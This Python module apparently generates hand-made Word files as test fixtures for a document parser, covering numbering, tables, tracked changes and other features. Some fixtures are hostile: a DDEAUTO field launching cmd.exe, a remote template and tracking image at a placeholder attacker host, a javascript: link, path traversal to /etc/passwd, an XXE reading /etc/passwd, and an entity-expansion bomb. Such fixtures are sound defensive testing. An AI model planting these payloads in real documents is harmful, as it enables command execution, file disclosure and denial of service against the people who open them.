"""Word documents written by hand, for what no program that we have writes: name → bytes."""

import io
import struct
import zipfile
import zlib


def _png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    row = b"\0" + b"\xc0\x20\x20" * 4
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(row * 4)) + chunk(b"IEND", b""))


PNG = _png()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
NAMESPACES = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    'xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"')
STYLES = """<w:style w:type="paragraph" w:default="1" w:styleId="Standaard"><w:name w:val="Normal"/></w:style>
<w:style w:type="paragraph" w:styleId="Kop1"><w:name w:val="heading 1"/><w:pPr><w:outlineLvl w:val="0"/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="Kop2"><w:name w:val="heading 2"/><w:pPr><w:outlineLvl w:val="1"/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="Titel"><w:name w:val="Title"/></w:style>
<w:style w:type="paragraph" w:styleId="Bijschrift"><w:name w:val="caption"/></w:style>
<w:style w:type="paragraph" w:styleId="Citaat"><w:name w:val="Quote"/></w:style>"""


def p(content, style=None, properties=""):
    style = f'<w:pStyle w:val="{style}"/>' if style else ""
    return f"<w:p><w:pPr>{style}{properties}</w:pPr>{content}</w:p>"


def r(text, properties=""):
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def item(text, number, level=0):
    return p(r(text), None, f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>')


def docx(body, relationships=(), parts=None, strict=False, numbering="", raw=None, settings=""):
    """A whole document; `relationships` are (id, kind, target, isExternal)."""
    w, r_ = (STRICT_W, STRICT_R) if strict else (W, R)
    relationships = list(relationships) + [("rS", "styles", "styles.xml", False)]
    if numbering:
        relationships.append(("rN", "numbering", "numbering.xml", False))
    if settings:
        relationships.append(("rT", "settings", "settings.xml", False))
    rel = "".join(
        f'<Relationship Id="{i}" Type="{r_}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if out else ""}/>'
        for i, kind, target, out in relationships)
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    pack = "http://schemas.openxmlformats.org/package/2006"
    files = {
        "[Content_Types].xml": f'{head}<Types xmlns="{pack}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'{head}<Relationships xmlns="{pack}/relationships"><Relationship Id="r1" Type="{r_}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'{head}<Relationships xmlns="{pack}/relationships">{rel}</Relationships>',
        "word/styles.xml": f'{head}<w:styles xmlns:w="{w}"><w:docDefaults><w:rPrDefault><w:rPr><w:lang w:val="nl-NL"/></w:rPr></w:rPrDefault></w:docDefaults>{STYLES}</w:styles>',
        "word/document.xml": raw or f'{head}<w:document xmlns:w="{w}" xmlns:r="{r_}" {NAMESPACES}><w:body>{body}</w:body></w:document>',
    }
    if numbering:
        files["word/numbering.xml"] = f'{head}<w:numbering xmlns:w="{w}">{numbering}</w:numbering>'
    if settings:
        files["word/settings.xml"] = f'{head}<w:settings xmlns:w="{w}"/>'
        files["word/_rels/settings.xml.rels"] = f'{head}<Relationships xmlns="{pack}/relationships">{settings}</Relationships>'
    files.update(parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def levels(*formats):
    return "".join(
        f'<w:lvl w:ilvl="{i}"><w:start w:val="{start}"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{text}"/></w:lvl>'
        for i, (kind, start, text) in enumerate(formats))


def picture(relationship, description="", decorative=False, attribute="embed"):
    extra = ('<a:extLst><a:ext uri="x"><adec:decorative xmlns:adec="http://schemas.microsoft.com/office/drawing/2017/decorative" val="1"/></a:ext></a:extLst>'
             if decorative else "")
    return ('<w:r><w:drawing><wp:inline><wp:docPr id="1" name="Afbeelding 1" descr="' + description + f'">{extra}</wp:docPr>'
            f'<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:{attribute}="{relationship}"/></pic:blipFill></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


ALL = {}

NUMBERING = (
    '<w:abstractNum w:abstractNumId="0">' + levels(("decimal", 1, "%1."), ("lowerLetter", 1, "%2)"), ("decimal", 1, "%3."))
    + '</w:abstractNum><w:abstractNum w:abstractNumId="1">' + levels(("bullet", 1, "•"), ("bullet", 1, "o"))
    + '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    '<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>'
    '<w:num w:numId="3"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride></w:num>'
    '<w:num w:numId="4"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="0"><w:startOverride w:val="7"/></w:lvlOverride></w:num>')

ALL["hand-nummering.docx"] = docx(
    p(r("Nummering"), "Kop1") + item("een", 1) + item("twee", 1) + item("a", 1, 1) + item("b", 1, 1) + item("drie", 1)
    + p(r("Tekst ertussen.")) + item("vier, want het gaat door", 1) + p(r("Weer tekst.")) + item("opnieuw een", 3)
    + item("opnieuw twee", 3) + p(r("En vanaf zeven.")) + item("zeven", 4) + item("acht", 4) + item("bol", 2)
    + item("deelbol", 2, 1) + item("bol", 2) + item("meteen diep", 2, 1), numbering=NUMBERING)

ALL["hand-tabellen.docx"] = docx(
    p(r("Tabellen"), "Kop1")
    + '<w:tbl><w:tblPr><w:tblLook w:val="04A0" w:firstRow="1"/></w:tblPr>'
    '<w:tr><w:trPr><w:tblHeader/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>' + p(r("Wie en wat", "<w:b/>")) + '</w:tc><w:tc>' + p(r("Wanneer")) + '</w:tc></w:tr>'
    '<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>' + p(r("Griffie")) + '</w:tc><w:tc>' + p(r("stukken | bijlagen")) + '</w:tc><w:tc>' + p(r("nu")) + '</w:tc></w:tr>'
    '<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>' + p("") + '</w:tc><w:tc>' + p(r("agenda")) + p(r("twee alinea’s")) + '</w:tc><w:tc><w:tbl><w:tr><w:tc>' + p(r("nest")) + '</w:tc><w:tc>' + p(r("tabel")) + '</w:tc></w:tr></w:tbl>' + p("") + '</w:tc></w:tr></w:tbl>'
    + p('<w:r><w:t xml:space="preserve">Tabel </w:t></w:r><w:fldSimple w:instr=" SEQ Tabel \\* ARABIC "><w:r><w:t>3</w:t></w:r></w:fldSimple><w:r><w:t>: Wie doet wat</w:t></w:r>', "Bijschrift")
    + '<w:tbl><w:tr><w:tc>' + p(r("1")) + '</w:tc><w:tc>' + p(r("zonder kop")) + '</w:tc></w:tr><w:tr><w:tc>' + p(r("2")) + '</w:tc></w:tr></w:tbl>'
    + '<w:tbl><w:tr><w:tc>' + p(r("Een kader van één cel.")) + p(r("Met twee alinea’s.")) + '</w:tc></w:tr></w:tbl>'
    + p(r("Einde.")))

ALL["hand-wijzigingen.docx"] = docx(
    p(r("Wijzigingen"), "Kop1")
    + p(r("Voor ") + '<w:ins w:id="1" w:author="Els" w:date="2026-05-01T00:00:00Z">' + r("toegevoegd ") + '</w:ins>'
        '<w:del w:id="2" w:author="Jan" w:date="2026-05-02T00:00:00Z"><w:r><w:delText xml:space="preserve">verwijderd </w:delText></w:r></w:del>' + r("na."))
    + p(r("Deze alinea loopt "), None, '<w:rPr><w:del w:id="3" w:author="Jan" w:date="2026-05-02T00:00:00Z"/></w:rPr>')
    + p(r("door in de volgende."))
    + p('<w:moveFrom w:id="4" w:author="Els" w:date="2026-05-03T00:00:00Z">' + r("Een verplaatste zin.") + '</w:moveFrom>')
    + p(r("Midden. ") + '<w:moveTo w:id="5" w:author="Els" w:date="2026-05-03T00:00:00Z">' + r("Een verplaatste zin.") + '</w:moveTo>')
    + p(r("Andere opmaak", '<w:b/><w:rPrChange w:id="6" w:author="Els"><w:rPr/></w:rPrChange>'))
    + '<w:tbl><w:tblPr><w:tblLook w:firstRow="1"/></w:tblPr><w:tr><w:tc>' + p(r("kop")) + '</w:tc></w:tr><w:tr><w:trPr><w:del w:id="7" w:author="Jan" w:date="2026-05-02T00:00:00Z"/></w:trPr><w:tc>'
    + p('<w:del w:id="8" w:author="Jan"><w:r><w:delText>weg</w:delText></w:r></w:del>') + '</w:tc></w:tr><w:tr><w:tc>' + p(r("blijft")) + '</w:tc></w:tr></w:tbl>')

ALL["hand-opmerkingen.docx"] = docx(
    p(r("Opmerkingen"), "Kop1")
    + p(r("Een ") + '<w:commentRangeStart w:id="0"/>' + r("bewering") + '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>' + r(" zonder bron.")),
    relationships=[("rC", "comments", "comments.xml", False)],
    parts={"word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="Zoë" w:date="2026-05-03T00:00:00Z">' + p(r("Waar staat dit?")) + '</w:comment>'
           '<w:comment w:id="1" w:author="Jan">' + p(r("Los van de tekst.")) + '</w:comment></w:comments>'})

ALL["hand-strikt.docx"] = docx(
    p(r("Strikt"), "Kop1") + p(r("Strikte ") + r("OOXML", "<w:b/>") + r(" leest net zo.")), strict=True)

ALL["hand-macro.docm"] = docx(
    p(r("Met macro’s"), "Kop1") + p(r("Tekst.")), relationships=[("rV", "vbaProject", "vbaProject.bin", False)],
    parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 nep"})

ALL["hand-gevaar.docx"] = docx(
    p(r("Gevaar"), "Kop1")
    + p('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + r("onschuldige tekst") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    + p('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://kwaad.example/spoor.png&quot; ">' + r("plaatje") + '</w:fldSimple>')
    + p('<w:hyperlink r:id="rJ">' + r("klik") + '</w:hyperlink>' + r(" en ") + '<w:hyperlink r:id="rF">' + r("bestand") + '</w:hyperlink>')
    + p(picture("rX", "Een spoor", attribute="link")) + p(picture("rO", "Buiten het document"))
    + p(picture("rZ", "Geen plaatje")) + p(r("Einde.")),
    relationships=[("rJ", "hyperlink", "javascript:alert(1)", True), ("rF", "hyperlink", "file:///C:/geheim.txt", True),
                   ("rX", "image", "https://kwaad.example/x.png", True), ("rO", "image", "../../../etc/passwd", False),
                   ("rZ", "image", "media/x.emf", False)],
    parts={"word/media/x.emf": b"\x01\0\0\0 EMF"},
    settings=f'<Relationship Id="t" Type="{R}/attachedTemplate" Target="https://kwaad.example/sjabloon.dotm" TargetMode="External"/>')

ALL["hand-onderdelen.docx"] = docx(
    p(r("Onderdelen"), "Titel") + p(r("Kop door niveau"), None, '<w:outlineLvl w:val="0"/>')
    + p(picture("rI", "Een &quot;rood&quot; vlak")) + p(r("Figuur 2. Rood, met [haken]"), "Bijschrift")
    + p(picture("rI", decorative=True)) + p(r("Tekst met ") + picture("rI", "teken") + r(" erin."))
    + p('<w:r><w:drawing><wp:inline><wp:docPr id="2" name="g" descr="Groei per jaar"/><a:graphic><a:graphicData><c:chart r:id="rQ"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    + p('<w:r><w:drawing><wp:inline><wp:docPr id="3" name="s"/><a:graphic><a:graphicData><dgm:relIds r:dm="rQ"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    + p('<w:r><w:object><v:shape alt="Rekenblad"/><o:OLEObject ProgID="Excel.Sheet.12" r:id="rQ"/></w:object></w:r>')
    + p(r("H") + r("2", '<w:vertAlign w:val="subscript"/>') + r("O, 1") + r("e", '<w:vertAlign w:val="superscript"/>') + r(" en ") + r("geheim", "<w:vanish/>") + r("zichtbaar")
        + '<w:r><w:sym w:font="Wingdings" w:char="F0FC"/></w:r>' + r(" en ") + '<w:r><w:noBreakHyphen/><w:softHyphen/><w:tab/><w:t>tab</w:t></w:r>')
    + p('<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor><wp:docPr id="4" name="vak"/><a:graphic><a:graphicData><wps:wsp><wps:txbx><w:txbxContent>'
        + p(r("In het tekstvak"), "Kop2") + p(r("staat dit.")) + '</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice>'
        '<mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>' + p(r("DUBBEL")) + '</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>')
    + '<w:sdt><w:sdtPr><w14:checkbox/></w:sdtPr><w:sdtContent>' + p(r("Inhoud van een veld.")) + '</w:sdtContent></w:sdt>'
    + p('<w:r><w:pict><v:rect o:hr="t"/></w:pict></w:r>') + p(r("Een citaat."), "Citaat") + p(r("Tweede zin."), "Citaat")
    + p('<w:r><w:br w:type="page"/></w:r>' + r("Na de bladzijde.") + '<w:r><w:br w:type="column"/></w:r>')
    + p('<w:bookmarkStart w:id="0" w:name="ergens"/>' + r("Een plek.") + '<w:bookmarkEnd w:id="0"/>')
    + p('<w:hyperlink w:anchor="ergens">' + r("naar die plek", '<w:u w:val="single"/><w:color w:val="0000FF"/>') + '</w:hyperlink>' + r(" en ") + r("gekleurd", '<w:color w:val="FF0000"/>') + r(" en ") + r("markeerd", '<w:highlight w:val="yellow"/>')),
    relationships=[("rI", "image", "media/image1.png", False)], parts={"word/media/image1.png": PNG})

ALL["hand-leeg.docx"] = docx(p("") + p(r("   ")))
ALL["hand-entiteiten.docx"] = docx("", raw=(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + f']><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>'))
ALL["hand-extern.docx"] = docx("", raw=(
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>'))
ALL["hand-bom.docx"] = docx(p(r("Bom")), parts={"word/media/groot.bin": b"\0" * (3 << 20)})
ALL["hand-oud-doc.docx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ALL["hand-wachtwoord.docx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 64
ALL["hand-tekst.docx"] = b"Dit is gewone tekst."
ALL["hand-afgebroken.docx"] = ALL["hand-tabellen.docx"][:700]
